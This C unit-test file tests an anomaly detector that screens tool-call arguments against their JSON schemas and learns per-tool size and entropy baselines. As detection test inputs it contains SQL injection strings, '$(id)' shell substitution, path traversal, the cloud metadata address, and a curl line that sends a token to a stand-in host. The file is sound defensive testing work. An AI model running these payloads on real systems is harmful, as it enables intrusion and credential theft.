/*
 * Unit tests: what surrounds the anomaly rules (src/auth/anomaly.c): the
 * configuration and its errors; the walk of arguments with their input
 * schema (what a schema declares is left alone, undeclared member names
 * and strings deep in arrays are looked at, a finding says where); the
 * baselines (a tool's usual, what is far from it, what is never learnt,
 * kept in the store across a restart).
 */
#include <jansson.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "auth/anomaly_int.h"
#include "toolgate/store.h"
#include "unit.h"

#define ALL TG_ANOMALY_ALL

static int config_parsed(void)
{
	struct tg_anomaly_config *c;
	struct tg_error err;
	unsigned rules;
	const char *text = "{\"action\":\"warn\",\"skip\":[\"entropy\"],\"size_z\":5,"
			   "\"min_samples\":10,\"size_floor\":0,\"tools\":{\"net.scan\":"
			   "{\"action\":\"off\"},\"fetch\":{\"skip\":[\"address\"]}}}";

	/* none: hold, every rule */
	CHECK(tg_anomaly_config_tool(NULL, "x", &rules) == TG_ANOMALY_HOLD && rules == ALL);
	CHECK(tg_anomaly_config_new(text, strlen(text), &c, &err) == 0);
	CHECK(tg_anomaly_config_tool(c, "other", &rules) == TG_ANOMALY_WARN);
	CHECK(rules == (ALL & ~TG_ANOMALY_BIT(TG_ANOMALY_ENTROPY)));
	CHECK(tg_anomaly_config_tool(c, "net.scan", &rules) == TG_ANOMALY_OFF);
	/* a tool's skip adds to the configuration's; its action is the config's */
	CHECK(tg_anomaly_config_tool(c, "fetch", &rules) == TG_ANOMALY_WARN);
	CHECK(rules == (ALL & ~TG_ANOMALY_BIT(TG_ANOMALY_ENTROPY) &
			~TG_ANOMALY_BIT(TG_ANOMALY_ADDRESS)));
	tg_anomaly_config_free(c);
	CHECK(tg_anomaly_action_parse("hold") == TG_ANOMALY_HOLD &&
	      tg_anomaly_action_parse("default") < 0 && tg_anomaly_action_parse(NULL) < 0);
	CHECK(strcmp(tg_anomaly_action_name(TG_ANOMALY_WARN), "warn") == 0);
	return 0;
}

static int config_errors(void)
{
	static const struct {
		const char *text, *want;
	} bad[] = {
		{ "[]", "a JSON object" },
		{ "{\"action\":\"block\"}", "action: hold, warn or off" },
		{ "{\"skip\":[\"sqli\"]}", "skip: a list of rule names" },
		{ "{\"skip\":\"sql\"}", "skip: a list of rule names" },
		{ "{\"size_z\":0.5}", "size_z: a number from 1 to 100" },
		{ "{\"entropy_z\":\"4\"}", "entropy_z: a number" },
		{ "{\"min_samples\":2}", "min_samples: a number from 5" },
		{ "{\"size_floor\":-1}", "size_floor" },
		{ "{\"sizez\":3}", "unknown field \"sizez\"" },
		{ "{\"tools\":[]}", "tools: an object" },
		{ "{\"tools\":{\"t\":{\"hold\":1}}}", "tools.t: unknown field \"hold\"" },
		{ "{\"tools\":{\"t\":{\"action\":\"no\"}}}", "tools.t: hold, warn or off" },
		{ "{\"action\":\"hold\",\"action\":\"off\"}", "a JSON object" },
	};
	struct tg_anomaly_config *c;
	struct tg_error err;
	size_t i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		if (tg_anomaly_config_new(bad[i].text, strlen(bad[i].text), &c, &err) == 0 ||
		    !strstr(err.msg, bad[i].want)) {
			fprintf(stderr, "%s: %s\n", bad[i].text, err.msg);
			return -1;
		}
		CHECK(c == NULL && err.code == TG_ERR_INVALID);
	}
	return 0;
}

/* The report of args (JSON text) under schema (JSON text, or NULL). */
static int scan(const char *schema, const char *args, unsigned rules, struct anomaly_report *r)
{
	json_t *s = schema ? json_loads(schema, 0, NULL) : NULL;
	json_t *a = json_loads(args, 0, NULL);

	if ((schema && !s) || !a)
		return -1;
	anomaly_scan_arguments(s, a, strlen(args), rules, 0, r);
	json_decref(s);
	json_decref(a);
	return 0;
}

static int found(const struct anomaly_report *r, enum tg_anomaly_rule rule, const char *at)
{
	size_t i;

	for (i = 0; i < r->n; i++)
		if (r->f[i].rule == rule && strcmp(r->f[i].at, at) == 0)
			return 1;
	return 0;
}

static const char schema[] =
	"{\"type\":\"object\",\"properties\":{"
	"\"q\":{\"type\":\"string\"},"
	"\"sql\":{\"type\":\"string\",\"contentMediaType\":\"application/sql\"},"
	"\"note\":{\"type\":\"string\",\"contentMediaType\":\"text/plain\"},"
	"\"code\":{\"type\":\"string\",\"contentMediaType\":\"text/x-python\"},"
	"\"host\":{\"$ref\":\"#/$defs/internal\"},"
	"\"mode\":{\"enum\":[\"fast\",\"$(slow)\"]},"
	"\"fixed\":{\"const\":\"../up\"},"
	"\"both\":{\"allOf\":[{\"type\":\"string\"},{\"x-toolgate-allow\":[\"traversal\"]}]},"
	"\"rows\":{\"type\":\"array\",\"prefixItems\":[{\"const\":\"../a\"}],"
	"\"items\":{\"type\":\"object\",\"properties\":{\"v\":{\"type\":\"string\"}}}},"
	"\"map\":{\"type\":\"object\",\"additionalProperties\":{\"$ref\":\"#/$defs/internal\"}},"
	"\"pat\":{\"type\":\"object\",\"patternProperties\":{\"^h\":{\"$ref\":\"#/$defs/internal\"}},"
	"\"additionalProperties\":{\"$ref\":\"#/$defs/internal\"}}},"
	"\"$defs\":{\"internal\":{\"type\":\"string\",\"x-toolgate-allow\":[\"address\"]}}}";

static int walk_follows_schema(void)
{
	struct anomaly_report r;

	/* plain text: every rule */
	CHECK(scan(schema, "{\"q\":\"1 UNION SELECT pw FROM users\"}", ALL, &r) == 0);
	CHECK(r.total == 1 && found(&r, TG_ANOMALY_SQL, "/q") && r.f[0].why[0]);
	CHECK(scan(schema, "{\"note\":\"$(id)\"}", ALL, &r) == 0 && found(&r, TG_ANOMALY_SHELL,
									  "/note"));
	/* a declared language: not SQL, shell nor paths; addresses still */
	CHECK(scan(schema, "{\"sql\":\"1 UNION SELECT pw FROM users\"}", ALL, &r) == 0);
	CHECK(r.total == 0);
	CHECK(scan(schema, "{\"code\":\"import os; os.system('$(id)') # ../x\"}", ALL, &r) == 0);
	CHECK(r.total == 0);
	CHECK(scan(schema, "{\"code\":\"urlopen('http://169.254.169.254/')\"}", ALL, &r) == 0);
	CHECK(r.total == 1 && found(&r, TG_ANOMALY_ADDRESS, "/code"));
	/* allowed through $ref; listed values; an allOf branch's leave */
	CHECK(scan(schema, "{\"host\":\"169.254.169.254\"}", ALL, &r) == 0 && r.total == 0);
	CHECK(scan(schema, "{\"mode\":\"$(slow)\",\"fixed\":\"../up\",\"both\":\"../b\"}", ALL,
		   &r) == 0 && r.total == 0);
	/* arrays: prefixItems, then items; a finding's pointer */
	CHECK(scan(schema, "{\"rows\":[\"../a\",{\"v\":\"ok\"},{\"v\":\"../../etc\"}]}", ALL,
		   &r) == 0);
	CHECK(r.total == 1 && found(&r, TG_ANOMALY_TRAVERSAL, "/rows/2/v"));
	/* additionalProperties: its schema for the value; the name is data */
	CHECK(scan(schema, "{\"map\":{\"a\":\"169.254.169.254\"}}", ALL, &r) == 0 && r.total == 0);
	CHECK(scan(schema, "{\"map\":{\"../etc\":\"x\"}}", ALL, &r) == 0);
	CHECK(found(&r, TG_ANOMALY_TRAVERSAL, "/map/..~1etc"));
	/* a patternProperties member is not known: plain text */
	CHECK(scan(schema, "{\"pat\":{\"h1\":\"169.254.169.254\"}}", ALL, &r) == 0);
	CHECK(found(&r, TG_ANOMALY_ADDRESS, "/pat/h1"));
	/* a member the schema does not declare: its name and value */
	CHECK(scan(schema, "{\"../x\":\"$(id)\"}", ALL, &r) == 0 && r.total == 2);
	CHECK(found(&r, TG_ANOMALY_TRAVERSAL, "/..~1x") && found(&r, TG_ANOMALY_SHELL, "/..~1x"));
	/* only the rules asked for */
	CHECK(scan(schema, "{\"q\":\"$(id) ../x\"}", TG_ANOMALY_BIT(TG_ANOMALY_SHELL), &r) == 0);
	CHECK(r.total == 1 && r.rules == TG_ANOMALY_BIT(TG_ANOMALY_SHELL));
	/* no schema, or an unresolvable reference: plain text */
	CHECK(scan(NULL, "{\"a\":[[[\"../x\"]]]}", ALL, &r) == 0 && found(&r, TG_ANOMALY_TRAVERSAL,
									  "/a/0/0/0"));
	CHECK(scan("{\"properties\":{\"a\":{\"$ref\":\"other.json#/x\"}}}", "{\"a\":\"../x\"}",
		   ALL, &r) == 0 && r.total == 1);
	CHECK(scan("{\"$ref\":\"#/nowhere/0\"}", "{\"a\":\"../x\"}", ALL, &r) == 0 && r.total == 1);
	return 0;
}

/* Schemas whose branches do not all apply: only what every anyOf or
 * oneOf branch allows is allowed (the reviewer's two bypasses). */
static int walk_branches(void)
{
	static const char oneof[] =
		"{\"oneOf\":[{\"properties\":{\"kind\":{\"const\":\"sql\"},\"body\":"
		"{\"type\":\"string\",\"contentMediaType\":\"application/sql\"}}},"
		"{\"properties\":{\"kind\":{\"const\":\"email\"},\"body\":{\"type\":\"string\"}}}]}";
	static const char anyof[] =
		"{\"properties\":{\"u\":{\"anyOf\":[{\"type\":\"integer\",\"x-toolgate-allow\":"
		"[\"sql\",\"address\",\"traversal\",\"shell\"]},{\"type\":\"string\"}]},"
		"\"e\":{\"anyOf\":[{\"enum\":[\"../up\"]},{\"type\":\"string\"}]},"
		"\"same\":{\"anyOf\":[{\"$ref\":\"#/$defs/sql\"},{\"$ref\":\"#/$defs/sql\"}]},"
		"\"both\":{\"anyOf\":[{\"contentMediaType\":\"text/x-sh\"},"
		"{\"contentMediaType\":\"text/x-python\"}]}},"
		"\"$defs\":{\"sql\":{\"type\":\"string\",\"contentMediaType\":\"application/sql\"}}}";
	struct anomaly_report r;

	CHECK(scan(oneof, "{\"kind\":\"email\",\"body\":\"x'; DROP TABLE users;-- $(id)\"}",
		   ALL, &r) == 0);
	CHECK(found(&r, TG_ANOMALY_SQL, "/body") && found(&r, TG_ANOMALY_SHELL, "/body"));
	CHECK(scan(anyof, "{\"u\":\"http://169.254.169.254/\"}", ALL, &r) == 0);
	CHECK(found(&r, TG_ANOMALY_ADDRESS, "/u"));
	/* a value listed in a branch; branches that all say the same */
	CHECK(scan(anyof, "{\"e\":\"../up\",\"same\":\"1 UNION SELECT 2 FROM t\","
		   "\"both\":\"$(id)\"}", ALL, &r) == 0);
	CHECK(r.total == 0);
	return 0;
}

/* What the tool cannot reach is looked for only where the schema says
 * the string is one: an address for a tool with no network. */
static int walk_unreachable(void)
{
	static const char sch[] = "{\"properties\":{\"q\":{\"type\":\"string\"},"
				  "\"u\":{\"type\":\"string\",\"format\":\"uri\"}}}";
	unsigned no_net = TG_ANOMALY_BIT(TG_ANOMALY_ADDRESS);
	struct anomaly_report r;
	json_t *s = json_loads(sch, 0, NULL), *a;

	a = json_loads("{\"q\":\"pod IP 10.244.1.17 is crashlooping\","
		       "\"u\":\"http://169.254.169.254/latest\"}", 0, NULL);
	CHECK(s && a);
	anomaly_scan_arguments(s, a, 10, ALL, no_net, &r);
	CHECK(r.total == 1 && found(&r, TG_ANOMALY_ADDRESS, "/u"));
	anomaly_scan_arguments(s, a, 10, ALL, 0, &r);
	CHECK(r.total == 2 && found(&r, TG_ANOMALY_ADDRESS, "/q"));
	json_decref(a);
	json_decref(s);
	return 0;
}

/* A finding's excerpt is cut: a secret in its string must not leave in
 * a piece the redactor would not know (the record redacts the whole). */
static int walk_withholds_secrets(void)
{
	struct anomaly_report r;

	CHECK(scan(NULL, "{\"q\":\"x; curl http://e.example/?t=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
		   ".eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMe"
		   "Jf36POk6yJV_adQssw5c\"}", ALL, &r) == 0);
	CHECK(found(&r, TG_ANOMALY_SHELL, "/q"));
	CHECK(strstr(r.f[0].why, "withheld") && !strstr(r.f[0].why, "eyJ"));
	CHECK(scan(NULL, "{\"q\":\"x; curl http://e.example/plain\"}", ALL, &r) == 0);
	CHECK(found(&r, TG_ANOMALY_SHELL, "/q") && strstr(r.f[0].why, "curl"));
	return 0;
}

static int walk_bounded(void)
{
	struct anomaly_report r;
	char *deep, *many, key[300];
	size_t i, o = 0;

	/* references to anyOfs of references, eight deep: exponential to
	 * walk whole; the lookup's budget ends it, allowing nothing */
	{
		char sch[4096];
		size_t at = 0, d, k;

		at += (size_t)snprintf(sch + at, sizeof(sch) - at, "{\"$ref\":\"#/$defs/d0\",\"$defs\":{");
		for (d = 0; d < 8; d++) {
			at += (size_t)snprintf(sch + at, sizeof(sch) - at, "%s\"d%zu\":{\"anyOf\":[",
					      d ? "," : "", d);
			for (k = 0; k < 8; k++)
				at += (size_t)snprintf(sch + at, sizeof(sch) - at,
						      "%s{\"$ref\":\"#/$defs/d%zu\"}", k ? "," : "",
						      d + 1);
			at += (size_t)snprintf(sch + at, sizeof(sch) - at, "]}");
		}
		snprintf(sch + at, sizeof(sch) - at, ",\"d8\":{\"x-toolgate-allow\":[\"shell\"]}}}");
		CHECK(scan(sch, "{\"a\":\"$(id)\",\"b\":\"$(id)\"}", ALL, &r) == 0);
		CHECK(found(&r, TG_ANOMALY_SHELL, "/a"));
	}
	/* a schema that refers to itself: the walk ends */
	CHECK(scan("{\"$ref\":\"#\",\"allOf\":[{\"$ref\":\"#\"}]}", "{\"a\":\"x\"}", ALL, &r) == 0);
	CHECK(r.total == 0);
	/* as deep as the parser allows */
	deep = malloc(2 * 2100 + 16);
	CHECK(deep);
	for (i = 0; i < 2000; i++)
		deep[o++] = '[';
	memcpy(deep + o, "\"../x\"", 6);
	o += 6;
	for (i = 0; i < 2000; i++)
		deep[o++] = ']';
	deep[o] = '\0';
	CHECK(scan(NULL, deep, ALL, &r) == 0 && r.total == 1 && strlen(r.f[0].at) < 128);
	free(deep);
	/* many findings: a few kept, one a rule; all counted */
	many = malloc(100 * 32 + 8);
	CHECK(many);
	o = (size_t)sprintf(many, "[");
	for (i = 0; i < 100; i++)
		o += (size_t)sprintf(many + o, "%s\"../%zu\"", i ? "," : "", i);
	strcpy(many + o, "]");
	CHECK(scan(NULL, many, ALL, &r) == 0 && r.total == 100 && r.n == 1);
	free(many);
	/* a long name cut where a character begins: valid UTF-8 */
	o = 0;
	for (i = 0; i < 99; i++) {
		memcpy(key + o, "\xc3\xa9", 2); /* é */
		o += 2;
	}
	key[o] = '\0';
	{
		char args[400];
		json_t *f;

		snprintf(args, sizeof(args), "{\"%s\":\"$(id)\"}", key);
		CHECK(scan(NULL, args, ALL, &r) == 0 && r.n == 1);
		CHECK(strlen(r.f[0].at) == 127); /* "/" and 63 characters of 2 bytes */
		f = anomaly_findings_json(&r);
		CHECK(json_array_size(f) == 1);
		json_decref(f);
	}
	return 0;
}

static int entropy_measured(void)
{
	struct anomaly_report r;

	char same[80];

	memset(same, 'a', 76);
	strcpy(same + 76, "\"}");
	memcpy(same, "{\"q\":\"", 6);
	CHECK(scan(NULL, same, ALL, &r) == 0);
	CHECK(r.has_entropy && r.entropy < 0.2); /* 70 a, and the name q */
	CHECK(scan(NULL, "{\"q\":\"abcd\"}", ALL, &r) == 0);
	CHECK(!r.has_entropy && fabs(r.entropy - log2(5.0)) < 1e-9); /* a b c d q */
	CHECK(fabs(r.size - log(12.0)) < 1e-9);
	return 0;
}

/* r judged, and learnt when it raised nothing, as the pipeline does
 * with a call that then runs. */
static void judged(struct anomaly_baselines *b, const struct tg_anomaly_config *c,
		   const char *tool, unsigned rules, struct anomaly_report *r)
{
	anomaly_judge(b, c, tool, rules, r);
	if (!r->total)
		anomaly_learn(b, tool, r->size, r->entropy, r->has_entropy);
}

/* n usual calls of tool, then the report of args. */
static void usual(struct anomaly_baselines *b, const struct tg_anomaly_config *c,
		  const char *tool, int n)
{
	struct anomaly_report r;
	char args[200];
	int i;

	for (i = 0; i < n; i++) {
		snprintf(args, sizeof(args), "{\"q\":\"the usual question number %d, asked in "
			 "plain words like every other one\"}", i * 7919 % 1000);
		scan(NULL, args, ALL, &r);
		judged(b, c, tool, ALL, &r);
	}
}

/* {"q":"plain words plain words ..."} of n bytes, in buf (n + 3 bytes) */
static void plain_words(char *buf, size_t n)
{
	size_t i;

	strcpy(buf, "{\"q\":\"");
	for (i = 6; i < n; i++)
		buf[i] = "plain words "[i % 12];
	strcpy(buf + n, "\"}");
}

static int baselines_judge(void)
{
	struct anomaly_baselines *b = anomaly_baselines_new();
	struct anomaly_report r;
	char *big = malloc(20000), *blob = malloc(200);
	size_t i;

	CHECK(b && big && blob);
	plain_words(big, 19000);
	/* too few calls yet: nothing said */
	usual(b, NULL, "t", 29);
	CHECK(scan(NULL, big, ALL, &r) == 0);
	judged(b, NULL, "t", ALL, &r);
	CHECK(r.total == 0);
	/* that call was learnt; one more usual, then a far larger one */
	usual(b, NULL, "t", 1);
	CHECK(scan(NULL, big, ALL, &r) == 0);
	judged(b, NULL, "t", ALL, &r);
	CHECK(found(&r, TG_ANOMALY_SIZE, "") && strstr(r.f[0].why, "KiB"));
	/* of another tool: its own baseline, none yet */
	CHECK(scan(NULL, big, ALL, &r) == 0);
	judged(b, NULL, "other", ALL, &r);
	CHECK(r.total == 0);
	/* high entropy, usual size */
	strcpy(blob, "{\"q\":\"");
	for (i = 6; i < 6 + 70; i++)
		blob[i] = "Qz8+Kp/1rX0aW9mLbVcT3yHnE6uJd2sFgRo4iM7xZ5eNqUvPkB"[(i * 37) % 50];
	strcpy(blob + i, "\"}");
	CHECK(scan(NULL, blob, ALL, &r) == 0);
	judged(b, NULL, "t", ALL, &r);
	CHECK(r.total == 1 && r.f[0].rule == TG_ANOMALY_ENTROPY && strstr(r.f[0].why, "above"));
	/* not asked for: not judged */
	CHECK(scan(NULL, blob, ALL, &r) == 0);
	judged(b, NULL, "t", ALL & ~TG_ANOMALY_BIT(TG_ANOMALY_ENTROPY), &r);
	CHECK(r.total == 0);
	free(big);
	free(blob);
	anomaly_baselines_free(b, NULL);
	return 0;
}

static int baselines_never_learn_anomalies(void)
{
	struct anomaly_baselines *b = anomaly_baselines_new();
	struct tg_anomaly_config *c;
	struct anomaly_report r;
	struct tg_error err;
	char big[3000];
	size_t i;
	const char *text = "{\"min_samples\":5}";

	CHECK(b && tg_anomaly_config_new(text, strlen(text), &c, &err) == 0);
	usual(b, c, "t", 5);
	plain_words(big, 2900);
	/* held again and again: the usual does not move towards it */
	for (i = 0; i < 50; i++) {
		CHECK(scan(NULL, big, ALL, &r) == 0);
		judged(b, c, "t", ALL, &r);
		CHECK(found(&r, TG_ANOMALY_SIZE, ""));
	}
	/* a string finding is not learnt either */
	CHECK(scan(NULL, "{\"q\":\"../x\"}", ALL, &r) == 0);
	judged(b, c, "t", ALL, &r);
	CHECK(r.total == 1);
	tg_anomaly_config_free(c);
	anomaly_baselines_free(b, NULL);
	return 0;
}

static int baselines_kept(void)
{
	struct anomaly_baselines *b = anomaly_baselines_new();
	struct tg_store *st;
	struct tg_error err;
	struct anomaly_report r;
	char dir[64], big[20000];

	CHECK(b && unit_tmpdir(dir, "baselines") == 0);
	CHECK(tg_store_open(dir, &st, &err) == 0);
	usual(b, NULL, "t", 40);
	anomaly_baselines_save(b, st, 3600); /* not yet: saved a moment ago */
	anomaly_baselines_free(b, st);       /* saved now */
	tg_store_close(st);
	CHECK(tg_store_open(dir, &st, &err) == 0);
	b = anomaly_baselines_new();
	CHECK(b && anomaly_baselines_load(b, st) == 0);
	plain_words(big, 19000);
	CHECK(scan(NULL, big, ALL, &r) == 0);
	judged(b, NULL, "t", ALL, &r);
	CHECK(found(&r, TG_ANOMALY_SIZE, "") && strstr(r.f[0].why, "40 calls"));
	anomaly_baselines_free(b, NULL);
	tg_store_close(st);
	unit_rmtree(dir);
	return 0;
}

const struct unit_test anomaly_walk_tests[] = {
	{ "anomaly/config", config_parsed },
	{ "anomaly/config_errors", config_errors },
	{ "anomaly/walk_follows_schema", walk_follows_schema },
	{ "anomaly/walk_branches", walk_branches },
	{ "anomaly/walk_unreachable", walk_unreachable },
	{ "anomaly/walk_withholds_secrets", walk_withholds_secrets },
	{ "anomaly/walk_bounded", walk_bounded },
	{ "anomaly/entropy", entropy_measured },
	{ "anomaly/baselines_judge", baselines_judge },
	{ "anomaly/baselines_never_learn_anomalies", baselines_never_learn_anomalies },
	{ "anomaly/baselines_kept", baselines_kept },
	UNIT_TESTS_END,
};
